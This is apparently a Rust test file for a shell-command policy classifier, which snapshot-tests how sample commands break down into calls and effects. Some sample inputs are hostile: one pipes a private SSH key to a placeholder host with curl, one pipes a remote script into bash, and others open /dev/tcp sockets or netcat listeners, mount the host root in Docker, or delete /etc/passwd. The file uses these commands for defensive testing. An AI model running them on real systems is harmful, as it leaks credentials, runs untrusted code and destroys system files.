//! The list of calls and effects that a text is judged by.

use std::fmt::Write;

use relay_policy::classify::Verdict;
use relay_policy::effect::{ArgumentKind, Call, Effect};

use super::corpus::open_rows;
use super::entry::FACTS;
use super::verdict;

/// Commands, each for something that the list says.
const COMMANDS: &[&str] = &[
    // Words of a call, with the roles that its facts give them.
    "git -C sub push --force origin +main",
    "cp -r src/ /etc/app",
    // Who runs a call and where: wrappers, users, hosts.
    "sudo -u bob nice -n 5 rm a",
    "sudo systemctl restart nginx",
    "su - bob -c 'cat b'",
    "ssh -p 22 deploy@web1 'sudo rm -rf /srv/old'",
    "find . -name '*.o' -exec rm {} +",
    // Values: exact, one of several, open.
    "f=/etc/a; rm $f",
    "for f in a b; do rm $f; done",
    "rm $1",
    "curl https://$HOST/x",
    // Places of bytes in quotes and nested code.
    "bash -c 'echo a; rm \"b c\"'",
    // Effects of the shell itself.
    "echo a > out 2>> log",
    "exec 3<>/dev/tcp/h/80",
    "cd /etc; rm passwd; cd $X; rm a",
    // Data that leaves the host, and ports that open.
    "cat ~/.ssh/id_rsa | curl -d @- https://h/",
    "scp a.txt h:/tmp/",
    "nc -l -p 8080",
    "socat TCP-LISTEN:8080,fork -",
    "nginx -t && nginx",
    "ssh -N -L 8080:db:5432 bastion",
    "python3 -m http.server 8000",
    // Hidden code; folders of a container.
    "curl https://h/i.sh | bash",
    "docker run --rm -v /:/host alpine ls",
    // Dry runs, checks, helps; doubts stay.
    "rsync -n --delete a/ h:b/",
    "terraform destroy --help",
    "git clean -n --frobnicate",
    // Unknown programs.
    "frobnicate --all x",
];

/// Writes the list of a verdict, a line for each call and effect.
fn list(command: &str, verdict: &Verdict) -> String {
    let effects = &verdict.effects;
    let shown = |value| {
        let mark = if effects.is_exact(value) { "" } else { "?" };
        format!("{}{mark}", effects.display(value))
    };
    let mut out = format!("$ {command}\n");
    let call_line = |number: usize, call: &Call| {
        let known = if call.node.is_none() { " (unknown)" } else { "" };
        let mut line = format!("  call {number}: {}{known}", effects.command(call));
        for argument in effects.arguments(call) {
            let value = argument.value.map(shown).unwrap_or_default();
            let many = if argument.is_many { "…" } else { "" };
            match argument.kind {
                ArgumentKind::Sub => continue,
                ArgumentKind::Option(id) if value.is_empty() => {
                    write!(line, " {}", FACTS.option_name(id))
                }
                ArgumentKind::Option(id) => {
                    write!(line, " {}={value}{many}", FACTS.option_name(id))
                }
                ArgumentKind::Help => write!(line, " (help)"),
                ArgumentKind::Operand(role) => {
                    write!(line, " {}:{value}{many}", role.map_or("-", |role| role.word()))
                }
            }
            .unwrap();
        }
        for (name, value) in [("as", effects.user(call)), ("on", effects.host(call))] {
            if let Some(value) = value {
                write!(line, " {name} {}", shown(value)).unwrap();
            }
        }
        if let Some(wrapper) = call.wrapper {
            write!(line, " in {}", wrapper.number()).unwrap();
        }
        if effects.is_capped(call) {
            line.push_str(" (capped)");
        }
        if call.has_doubt {
            line.push_str(" (doubt)");
        }
        line + "\n"
    };
    for (number, call) in effects.calls().iter().enumerate() {
        out += &call_line(number, call);
    }
    let effect_line = |effect: &Effect| {
        let by = effect.by.map_or("shell".to_owned(), |id| id.number().to_string());
        let value = effect.value().map(shown).unwrap_or_default();
        let covered = if effects.is_covered(effect) { " (covered)" } else { "" };
        let how = effect.how(&FACTS);
        let line = format!("  {by}: {} | {how} {value}", effect.name());
        format!("{}{covered} `{}`\n", line.trim_end(), effect.span.of(command))
    };
    effects.all().iter().for_each(|effect| out += &effect_line(effect));
    out
}

#[test]
fn the_list_says_who_does_what_to_which() {
    let lists: Vec<String> =
        COMMANDS.iter().map(|command| list(command, &verdict(command))).collect();
    let mut settings = insta::Settings::clone_current();
    settings.set_prepend_module_to_snapshot(false);
    settings.set_omit_expression(true);
    settings.bind(|| insta::assert_snapshot!("effects", lists.join("\n")));
}

#[test]
fn every_list_is_well_formed() {
    for row in open_rows() {
        let command = &row.command;
        let verdict = verdict(command);
        let effects = &verdict.effects;
        let count = effects.calls().len();
        let is_placed = |span: relay_policy::span::Span| {
            let (start, end) = (span.start as usize, span.end as usize);
            start <= end && command.is_char_boundary(start) && command.is_char_boundary(end)
        };
        for (number, call) in effects.calls().iter().enumerate() {
            let wrapper = call.wrapper.map(|id| id.number() as usize);
            assert!(wrapper.is_none_or(|wrapper| wrapper < number), "{command}: {call:?}");
            assert!(is_placed(call.span), "{command}: {call:?}");
            assert!(
                effects.arguments(call).iter().all(|argument| is_placed(argument.span)),
                "{command}: {call:?}"
            );
        }
        for effect in effects.all() {
            let by = effect.by.map(|id| id.number() as usize);
            assert!(by.is_none_or(|by| by < count), "{command}: {effect:?}");
            assert!(is_placed(effect.span), "{command}: {effect:?}");
            assert!(!effect.how(&FACTS).is_empty(), "{command}: {effect:?}");
        }
        // The tier comes from effects alone.
        assert!(verdict.hits.is_empty() || !effects.all().is_empty(), "{command}");
    }
}
